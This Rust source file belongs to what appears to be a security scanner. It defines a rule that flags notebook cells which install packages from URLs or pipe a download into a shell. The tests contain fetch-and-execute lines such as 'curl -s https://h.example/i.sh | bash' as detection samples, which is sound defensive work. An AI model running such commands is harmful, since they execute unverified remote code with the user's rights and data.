//! `notebook-install-from-url`.

use vauban_domain::{Evidence, rule};
use vauban_formats::notebook::Notebook;

use crate::agent::shell::runs_download;
use crate::{Check, Look, Report, Subject};

rule! {
    /// A cell installs or runs what an address serves.
    pub(super) const RULE: "notebook-install-from-url" {
        family: Notebook,
        severity: Medium,
        title: "a cell installs a package from an address or pipes a download into a shell",
        why: "everyone who runs the notebook runs whatever the address serves that day, with their own rights and data",
        remedy: "install a pinned release from an index, or download, check a digest, then run",
        techniques: ["AML.T0011.001@2026.09", "AML.T0010.001@2026.09"],
        mitigations: ["AML.M0013@2026.09", "AML.M0018@2026.09"],
        weaknesses: ["CWE-494", "CWE-829"],
        owasp: ["LLM03:2025"],
        threats: ["L3.4@2025-02", "X.1@2025-02"],
        source: "https://ipython.readthedocs.io/en/stable/interactive/magics.html#magic-pip",
    }
}

/// The check.
pub(super) const CHECK: Check = Check { rule: &RULE, look: Look::Notebook(check) };

fn check(subject: &Subject<'_, Notebook>, report: &mut Report) {
    for cell in &subject.facts.cells {
        for escape in &cell.python.escapes {
            let Some(what) = fetched(&escape.command) else { continue };
            let place = subject.locator.clone().at_key(format!("cells[{}]", cell.index)).at_line(escape.line);
            let key = format!("{}:{what}", subject.locator.path);
            let message = format!("a cell runs what `{what}` serves");
            report.find(&subject.asset.id, message, vec![Evidence::new(place, key, &escape.command)]);
        }
    }
}

/// The address that a command installs from or pipes into an interpreter.
fn fetched(command: &str) -> Option<String> {
    let words: Vec<&str> = command.split_whitespace().collect();
    let is_address = |word: &&str| word.contains("://") || word.starts_with("git+");
    let installs =
        words.contains(&"install") && words.iter().any(|word| word.starts_with("pip") || *word == "uv");
    if installs {
        let mut option = "";
        for word in &words {
            // Addresses of indexes are judged where packages are, not here.
            let of_option = matches!(
                option,
                "-i" | "--index-url" | "--extra-index-url" | "-f" | "--find-links" | "--proxy"
            );
            let in_option = word.starts_with("--");
            option = word;
            if is_address(word) && !of_option && !in_option && !is_fixed(word) {
                return Some((*word).trim_matches(['"', '\'']).to_owned());
            }
        }
    }
    runs_download(command)
}

/// Whether the address ends in a full commit or a digest.
fn is_fixed(word: &str) -> bool {
    let commit = word.split('#').next().unwrap_or(word).rsplit('@').next().unwrap_or_default();
    word.contains("sha256=") || (commit.len() >= 40 && commit.bytes().all(|byte| byte.is_ascii_hexdigit()))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_are_told_from_indexes() {
        for bad in [
            "pip install git+https://g.example/x.git@main",
            "pip install -q https://h.example/x.whl",
            "curl -s https://h.example/i.sh | bash",
            "wget -qO- https://h.example/i.sh | sudo sh",
        ] {
            assert!(fetched(bad).is_some(), "{bad}");
        }
        for good in [
            "pip install numpy==2.4.6",
            "pip install -i https://pypi.org/simple numpy",
            "pip install --index-url=https://pypi.org/simple numpy",
            "curl -O https://h.example/data.csv",
            "cat a | sh",
            "pip install git+https://g.example/x.git@0123456789abcdef0123456789abcdef01234567",
        ] {
            assert_eq!(fetched(good), None, "{good}");
        }
    }
}
